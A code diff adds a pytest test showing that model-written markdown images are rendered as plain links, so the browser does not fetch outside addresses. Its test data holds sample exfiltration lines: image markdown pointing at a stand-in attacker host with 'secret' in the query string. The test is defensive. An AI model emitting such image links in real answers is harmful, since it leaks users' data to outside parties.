@@ -175,3 +175,15 @@ def test_checker_simulates_only_identity_policies(seed_text, catalog):
     report = run_checker(policy, PolicyType.SCP, errors, catalog)
     assert not report.simulated and report.fix is None
     assert all(d["reproduced"] is None for d in report.diagnoses)
+
+
+@pytest.mark.parametrize(("written", "shown"), [
+    ("See ![chart](https://attacker.example/p.png?q=secret)", "See [chart](https://attacker.example/p.png?q=secret)"),
+    ("![x][ref]\n\n[ref]: https://attacker.example/t.gif", "[x][ref]\n\n[ref]: https://attacker.example/t.gif"),
+    ("Not an image! [link](https://docs.aws.amazon.com/)", "Not an image! [link](https://docs.aws.amazon.com/)"),
+])
+def test_model_written_images_become_links(written: str, shown: str) -> None:
+    """The browser must not fetch outside addresses a model wrote (tracking pixels, data in the query)."""
+    from kbui.render import answer_markdown
+
+    assert answer_markdown(written) == shown
